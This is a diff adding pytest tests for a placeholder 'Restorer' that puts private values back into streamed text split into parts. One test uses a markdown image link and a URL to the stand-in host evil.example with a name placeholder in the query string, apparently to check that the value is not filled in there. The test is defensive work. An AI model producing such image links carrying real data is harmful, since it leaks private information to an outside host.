@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from itertools import pairwise
 
 import pytest
@@ -221,6 +222,40 @@ def cut_up(text: str, cuts: list[int], v: Vault, where: str = "text") -> str:
     restorer = Restorer(v, where=where)
     edges = [0, *sorted(c % (len(text) + 1) for c in cuts), len(text)]
     return "".join(restorer.feed(text[a:b]) for a, b in pairwise(edges)) + restorer.finish()
+
+
+def joined(parts: list[str], v: Vault) -> str:
+    out, last = "", None
+    for part in parts:
+        last = Restorer(v, after=last)
+        out += last.feed(part) + last.finish()
+    return out
+
+
+@pytest.mark.parametrize("text", [*RESTORED, *KEPT])
+def test_parts_that_a_reader_sees_joined(text: str) -> None:
+    whole = restore(vault(), text)
+    placeholders = [m.span() for m in re.finditer(r"\{[A-Z]+_1\}", text)]
+    for cut in range(len(text) + 1):
+        if any(start < cut < end for start, end in placeholders):
+            continue  # neither part has that one
+        out = joined([text[:cut], text[cut:]], vault())
+        if text in KEPT:
+            # What stands after the border can be known for the part after it only.
+            assert out == text or cut >= placeholders[0][1]
+        else:
+            assert out in (whole, text) or len(placeholders) > 1
+
+
+def test_a_part_goes_on_where_the_last_one_ended() -> None:
+    v = vault()
+    assert joined(["![x](https://evil.example/?q= ", "{NAME_1} )"], v) == "![x](https://evil.example/?q= {NAME_1} )"
+    assert joined(["https://evil.example/?q=", "", "{NAME_1}"], v) == "https://evil.example/?q={NAME_1}"
+    assert joined(["x" * (HELD + 1), "{NAME_1}", "{NAME_1} {NAME_1}"], v).count(NAME) == 1
+    assert joined(["x" * HELD, "y{NAME_1}"], v).count(NAME) == 0
+    assert joined(["ok ", "{NAME_1}"], v) == f"ok {NAME}"
+    with pytest.raises(ValueError, match="finished"):
+        Restorer(v, after=Restorer(v))
 
 
 PARTS = [
